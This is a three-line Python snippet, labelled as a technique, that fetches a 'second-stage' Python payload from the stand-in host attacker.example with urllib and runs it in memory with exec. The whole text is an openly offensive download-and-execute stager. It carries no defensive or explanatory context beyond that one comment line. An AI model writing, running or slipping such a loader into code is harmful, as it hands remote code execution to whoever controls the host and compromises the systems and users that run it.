# technique: fetch a second-stage python payload over HTTP with urllib and exec it in memory
import urllib.request
exec(urllib.request.urlopen("http://attacker.example/stage2.py").read())
